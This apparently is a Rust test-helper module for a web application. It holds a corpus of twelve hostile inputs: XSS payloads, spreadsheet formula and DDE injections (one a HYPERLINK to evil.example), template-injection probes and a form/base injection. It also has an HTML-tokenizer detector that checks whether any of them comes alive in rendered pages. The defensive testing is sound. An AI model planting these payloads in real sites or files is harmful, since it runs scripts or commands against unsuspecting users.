//! Hostile texts, and whether anything of them came alive in what browsers and other programs read.

use std::cell::RefCell;

use html5ever::buffer_queue::BufferQueue;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::states::RawKind;
use html5ever::tokenizer::{
    Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};

/// What people with bad intent write wherever text is taken. `@` becomes the name of the text, by which it is
/// found again on a page.
pub(crate) const CORPUS: [&str; 12] = [
    "<script>pwned('@')</script>",
    "\"><img src=x onerror=pwned('@')>",
    "'\"></title></textarea></style></script><svg/onload=pwned('@')>",
    "javascript:pwned('@')//<a href=\"javascript:pwned()\">@</a>",
    "--> ]]> <iframe srcdoc=\"&lt;script&gt;pwned('@')\"></iframe>",
    "</summary></entry><script xmlns=\"http://www.w3.org/1999/xhtml\">pwned('@')</script>",
    "=HYPERLINK(\"http://evil.example/@\",\"@\")",
    "+cmd|' /C calc @'!A0",
    "@SUM(1+1)*cmd|' @'!A0",
    "{{7*7}}${7*7}<%= '@' %> &lt;b onclick=pwned()&gt;@",
    "\u{202e}<b style=\"position:fixed\">@</b>\u{2028}",
    "-2+3 @;ATTENDEE:mailto:evil@example.org\\n<form action=//evil.example><base href=//evil.example>",
];

/// The hostile text of a name: always the same for the same name, another for another.
pub(crate) fn hostile(name: &str) -> String {
    // FNV-1a: spreads the corpus over the names, the same on every machine.
    let hash = name.bytes().fold(0xcbf2_9ce4_8422_2325_u64, |hash, byte| {
        (hash ^ u64::from(byte)).wrapping_mul(0x0100_0000_01b3)
    });
    let place = usize::try_from(hash % CORPUS.len() as u64).expect("small");
    let marker = marker(name);
    CORPUS[place].replace('@', &marker)
}

/// The word by which a text is found.
pub(crate) fn marker(name: &str) -> String {
    let word: String = name.chars().filter(|one| one.is_alphanumeric()).collect();
    format!("mark{word}kram")
}

/// What a browser's tokenizer makes of a page.
#[derive(Default)]
struct Seen {
    found: RefCell<Vec<String>>,
    script: RefCell<bool>,
}

impl Seen {
    fn fault(&self, fault: String) {
        self.found.borrow_mut().push(fault);
    }

    fn tag(&self, tag: &Tag) -> TokenSinkResult<()> {
        let name: &str = &tag.name;
        *self.script.borrow_mut() = name == "script" && tag.kind == TagKind::StartTag;
        if tag.kind == TagKind::EndTag {
            return TokenSinkResult::Continue;
        }
        if [
            "iframe", "object", "embed", "base", "style", "frame", "applet",
        ]
        .contains(&name)
        {
            self.fault(format!("<{name}>"));
        }
        let mut own = false;
        for attribute in &tag.attrs {
            let (key, value): (&str, &str) = (&attribute.name.local, &attribute.value);
            own |= key == "src"
                && (value.starts_with("/static/") || value.starts_with("/booth/files/"));
            if key.starts_with("on") || ["style", "srcdoc", "formaction"].contains(&key) {
                self.fault(format!("<{name} {key}={value:?}>"));
            }
            let leads = ["href", "src", "action", "xlink:href", "data", "poster"].contains(&key);
            if leads && !harmless(value) {
                self.fault(format!("<{name} {key}={value:?}> leads elsewhere"));
            }
        }
        if name == "script" && !own {
            self.fault("a script that is none of ours".to_owned());
        }
        match name {
            "script" => TokenSinkResult::RawData(RawKind::ScriptData),
            "title" | "textarea" => TokenSinkResult::RawData(RawKind::Rcdata),
            "style" | "xmp" | "noframes" => TokenSinkResult::RawData(RawKind::Rawtext),
            _ => TokenSinkResult::Continue,
        }
    }
}

/// An address of this site, of a person, or of a picture within the page.
fn harmless(address: &str) -> bool {
    let address = address.trim().to_ascii_lowercase();
    let own = [
        "#",
        "?",
        "mailto:",
        "tel:",
        "data:image/",
        "http://localhost/",
    ]
    .iter()
    .any(|start| address.starts_with(start));
    own || address.is_empty()
        || address == "http://localhost"
        // An icon that is none, so that no browser asks for one.
        || address == "data:,"
        || address.starts_with('/') && !address.starts_with("//")
}

impl TokenSink for Seen {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => return self.tag(&tag),
            Token::CharacterTokens(text) if *self.script.borrow() && !text.trim().is_empty() => {
                self.fault(format!("a script in the page: {text}"));
            }
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

/// Everything in a page of HTML that could run, restyle it or lead to another site.
pub(crate) fn alive(html: &str) -> Vec<String> {
    let tokenizer = Tokenizer::new(Seen::default(), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.found.into_inner()
}

/// The text of a page as a reader sees it: tags gone, references resolved.
pub(crate) fn visible(html: &str) -> String {
    struct Text(RefCell<String>);
    impl TokenSink for Text {
        type Handle = ();

        fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
            match token {
                Token::CharacterTokens(text) => self.0.borrow_mut().push_str(&text),
                Token::TagToken(tag) => {
                    let mut text = self.0.borrow_mut();
                    text.push(' ');
                    for attribute in &tag.attrs {
                        text.push_str(&attribute.value);
                        text.push(' ');
                    }
                }
                _ => {}
            }
            TokenSinkResult::Continue
        }
    }
    let tokenizer = Tokenizer::new(Text(RefCell::default()), TokenizerOpts::default());
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}

#[test]
fn f4_the_test_itself_sees_what_comes_alive() {
    for text in CORPUS
        .iter()
        .filter(|text| text.contains('<') && !text.contains("<%"))
    {
        let page = format!("<!DOCTYPE html><p>{text}</p>");
        assert!(!alive(&page).is_empty(), "{text}");
    }
    let fine =
        "<title>&lt;script&gt;</title><script src=\"/static/a.js\"></script><a href=\"/x\">y</a>";
    assert_eq!(alive(fine), Vec::<String>::new());
}
